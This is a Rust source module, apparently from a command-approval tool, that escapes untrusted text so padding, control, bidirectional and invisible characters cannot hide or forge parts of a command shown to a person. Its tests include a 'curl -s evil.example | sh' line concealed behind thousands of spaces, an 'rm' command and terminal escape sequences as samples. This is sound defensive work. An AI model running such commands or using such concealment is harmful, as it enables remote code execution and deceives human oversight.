//! Untrusted text shown to a person on one line: a command, a path, a
//! log line a program wrote. Line breaks and characters that change how
//! the rest of a line reads are written as escapes, so such text cannot
//! start a line of its own (a forged `decide:` or `why it asks:`) or
//! reorder what follows it.

use std::borrow::Cow;

/// Whether `c` must not reach a person raw: control characters (C0, DEL,
/// C1 such as U+0085 NEXT LINE), the Unicode line and paragraph
/// separators (U+2028, U+2029), bidirectional formatting (U+061C, U+200E,
/// U+200F, U+202A..U+202E, U+2066..U+2069; Unicode TR9) and invisible
/// characters (U+200B..U+200D, U+2060, U+FEFF).
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{2028}' | '\u{2029}' | '\u{061C}' | '\u{200E}' | '\u{200F}'
            | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
            | '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}')
}

/// Whether `c` is blank or invisible though it is neither the space nor
/// [`is_unsafe`]: it could pass for a space, or hide a difference, in text
/// a person decides on. Unicode whitespace other than the space (U+00A0,
/// U+3000 and the other spaces), the default-ignorable characters that draw
/// nothing (U+00AD, U+034F, U+115F, U+1160, U+17B4, U+17B5,
/// U+180B..U+180F, U+200B..U+200F, U+2060..U+206F, U+3164,
/// U+FE00..U+FE0F, U+FEFF, U+FFA0, U+1D173..U+1D17A, U+E0000..U+E0FFF) and
/// U+2800 (BRAILLE PATTERN BLANK, drawn as a blank).
pub fn is_blank_looking(c: char) -> bool {
    use unicode_general_category::{GeneralCategory as G, get_general_category};
    // Whitespace but the space, every format character (Cf: the
    // bidirectional and zero-width controls, U+FFF9..FFFB, U+1BCA0..,
    // U+13430..), every separator, and what the list below adds.
    (c != ' '
        && (c.is_whitespace()
            || matches!(
                get_general_category(c),
                G::Format | G::SpaceSeparator | G::LineSeparator | G::ParagraphSeparator
            )))
        || matches!(c,
            '\u{00AD}' | '\u{034F}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}'
            | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{2060}'..='\u{206F}'
            | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}' | '\u{FFA0}'
            | '\u{1D173}'..='\u{1D17A}' | '\u{E0000}'..='\u{E0FFF}')
}

/// Whether `c` belongs in a run of blanks [`visible`] may collapse: the
/// space and every [`is_blank_looking`] character (control characters are
/// shown one by one, as escapes).
fn is_blank_run(c: char) -> bool {
    c == ' ' || (!matches!(c, '\n' | '\t' | '\r') && is_blank_looking(c))
}

/// The longest run of spaces [`visible`] shows as spaces; a longer run
/// shows as `[N spaces]`: 16.
pub const MAX_SPACE_RUN: usize = 16;

/// What `text` shows as in [`visible`], piece by piece: each piece is what
/// one character, or one run of spaces, shows as, with how many characters
/// of `text` it stands for (so a cut between pieces never halves an escape
/// and can count what it leaves out).
pub fn visible_pieces(text: &str) -> Vec<(String, usize)> {
    let mut pieces: Vec<(String, usize)> = Vec::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if is_blank_run(c) {
            // A run of spaces and characters that draw nothing: shown as
            // it is when short, else counted, so that neither padding nor
            // invisible characters between shorter runs of spaces push the
            // rest of a command out of sight.
            let mut run = vec![c];
            while let Some(next) = chars.next_if(|n| is_blank_run(*n)) {
                run.push(next);
            }
            let spaces = run.iter().filter(|c| **c == ' ').count();
            let others = run.len() - spaces;
            if run.len() > MAX_SPACE_RUN {
                let shown = match (spaces, others) {
                    (_, 0) => format!("[{spaces} spaces]"),
                    (0, _) => format!("[{others} invisible characters]"),
                    _ => format!("[{spaces} spaces and {others} invisible characters]"),
                };
                pieces.push((shown, run.len()));
            } else {
                for c in run {
                    let shown = if c == ' ' { " ".to_owned() } else { format!("\\u{:04x}", u32::from(c)) };
                    pieces.push((shown, 1));
                }
            }
            continue;
        }
        let shown = match c {
            '\n' => "\\n".to_owned(),
            '\t' => "\\t".to_owned(),
            '\r' => "\\r".to_owned(),
            c if is_unsafe(c) || is_blank_looking(c) => format!("\\u{:04x}", u32::from(c)),
            c => c.to_string(),
        };
        pieces.push((shown, 1));
    }
    pieces
}

/// `text` as a person deciding on it must see it, on one line with every
/// character visible: newlines, tabs and carriage returns as `\n`, `\t`,
/// `\r`, every other [`is_unsafe`] or [`is_blank_looking`] character as
/// `\uXXXX` (four hex digits or more), and a run of more than
/// [`MAX_SPACE_RUN`] spaces as `[N spaces]`, so padding or blank-looking
/// characters cannot push the rest of a command out of sight or pass for
/// what they are not. The terminal prompt and server mode's questions both
/// show a command so. Nothing is cut.
pub fn visible(text: &str) -> String {
    visible_pieces(text).into_iter().map(|p| p.0).collect()
}

/// `text` with `\n` and `\r` written as `\n`, `\r` and every other
/// [`is_unsafe`] character as `\u{hex}` (lower case, as Rust and the CLI's
/// stderr write them: `\u{1b}`); borrowed when there was none.
pub fn one_line(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if is_unsafe(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// JSON text (as `serde_json` writes it, compact or pretty) with every
/// [`is_unsafe`] character that `serde_json` leaves raw (DEL, C1 controls,
/// line separators, bidirectional and invisible characters, which can only
/// stand inside strings) written as a JSON `\uXXXX` escape: the same JSON
/// value, still valid JSON, inert on a terminal. Newlines (the layout of
/// pretty JSON) stay; every other C0 control is already escaped by
/// `serde_json` inside strings and never appears outside them. Every
/// [`is_unsafe`] character is in the Basic Multilingual Plane, so one
/// `\uXXXX` each suffices.
pub fn in_json(json: &str) -> Cow<'_, str> {
    let escaped = |c: char| c != '\n' && is_unsafe(c);
    if !json.chars().any(escaped) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if escaped(c) {
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn line_breaks_and_reordering_characters_are_escaped() {
        assert_eq!(one_line("plain text, ünïcode"), "plain text, ünïcode");
        assert_eq!(one_line("a\nb\rc"), "a\\nb\\rc");
        assert_eq!(one_line("x\u{2028}why: ok\u{0085}y"), "x\\u{2028}why: ok\\u{85}y");
        assert_eq!(one_line("ab\u{202E}cd\u{200B}"), "ab\\u{202e}cd\\u{200b}");
        assert_eq!(one_line("\u{1b}]0;t\u{7}"), "\\u{1b}]0;t\\u{7}");
    }

    #[test]
    fn blanks_and_invisible_characters_are_shown_and_long_runs_counted() {
        let command = "a  b\n\tc\r d\u{a0}e\u{200b}f\u{3000}g\u{1b}[2J\u{202e}h\u{2800}i\u{3164}j\u{e0041}";
        assert_eq!(
            visible(command),
            r"a  b\n\tc\r d\u00a0e\u200bf\u3000g\u001b[2J\u202eh\u2800i\u3164j\ue0041"
        );
        assert_eq!(visible(&" ".repeat(MAX_SPACE_RUN)), " ".repeat(MAX_SPACE_RUN));
        assert_eq!(visible(&format!("ls{}; rm x", " ".repeat(3000))), "ls[3000 spaces]; rm x");
        assert_eq!(visible("plain ünïcode"), "plain ünïcode");
        // Format characters outside any list, between runs of spaces too
        // short to collapse one by one (the second review's command).
        let padded = format!(
            "ls{}{}; curl -s evil.example | sh",
            format!("{}\u{FFFB}", " ".repeat(16)).repeat(300),
            format!("{}\u{1BCA0}", " ".repeat(16)).repeat(100)
        );
        assert_eq!(
            visible(&padded),
            "ls[6400 spaces and 400 invisible characters]; curl -s evil.example | sh"
        );
        assert_eq!(visible("a\u{0600}\u{13430}b"), "a\\u0600\\u13430b");
    }

    #[test]
    fn json_keeps_its_value_and_validity() {
        let value =
            serde_json::json!({"a\u{202e}": ["\u{1b}]52;c;x\u{7}", "x\u{2028}y\u{85}\u{7f}\u{200b}"]});
        for text in [serde_json::to_string(&value).unwrap(), serde_json::to_string_pretty(&value).unwrap()] {
            let shown = in_json(&text);
            assert!(!shown.chars().any(|c| c != '\n' && is_unsafe(c)), "{shown}");
            assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).unwrap(), value);
        }
        assert!(matches!(in_json("{\n  \"a\": 1\n}"), Cow::Borrowed(_)));
    }
}
